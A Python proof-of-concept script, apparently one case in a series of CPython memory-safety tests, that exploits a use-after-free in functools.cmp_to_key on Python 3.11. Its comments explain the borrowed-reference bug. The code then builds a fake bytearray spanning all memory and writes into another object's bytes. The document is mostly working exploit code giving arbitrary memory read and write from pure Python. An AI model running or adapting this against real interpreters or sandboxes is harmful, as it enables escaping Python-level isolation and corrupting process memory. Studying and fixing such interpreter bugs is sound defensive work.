# family: wall (memory: functools.cmp_to_key's comparison passes both objs borrowed)   goal: memory   interpreter: /usr/bin/python3
# A sibling of X83 (the twelfth round's ok_04) in the same module: the key that
# functools.cmp_to_key makes. CPython 3.11's keyobject_richcompare calls the cmp
# function with both keys' obj BORROWED, and obj is a writable member. With a C
# cmp (operator.eq), V.__eq__ runs first: it sets k1.obj = None (the last
# reference to V, an 80-byte GC block, is its own frame's) and answers
# NotImplemented; V is freed, and the reflected Wc.__eq__ receives it, refilled
# meanwhile by bytearray(FAKE) (a fake PyByteArrayObject of 2**62 bytes at address
# 0): a bytearray over all memory, through which another object's bytes are
# written. Plain python3 (the image's 3.11.2): MEMORY-OVERWRITTEN. The wall: the
# key keeps every obj it was given (keep_set), V is never freed.
import functools
import operator
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o):
        k1.obj = None                      # the key's reference to V dropped
        return NotImplemented              # our frame drops V's last one on return
class Wc:
    def __eq__(s, o):
        keep.append(bytearray(FAKE))       # takes the freed V's block back
        keep.append(o)
        return False
K = functools.cmp_to_key(operator.eq)
k1, k2 = K(V()), K(Wc())
k1 < k2                                    # operator.eq(<V borrowed>, <Wc borrowed>)
mem = keep[-1]
print(type(mem).__name__, hex(len(mem)), flush=True)
target = bytearray(b"AAAAAAAA")
start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")
mem[start] = 0x42
if target[0] == 0x42:
    print("MEMORY-OVERWRITTEN", bytes(target))
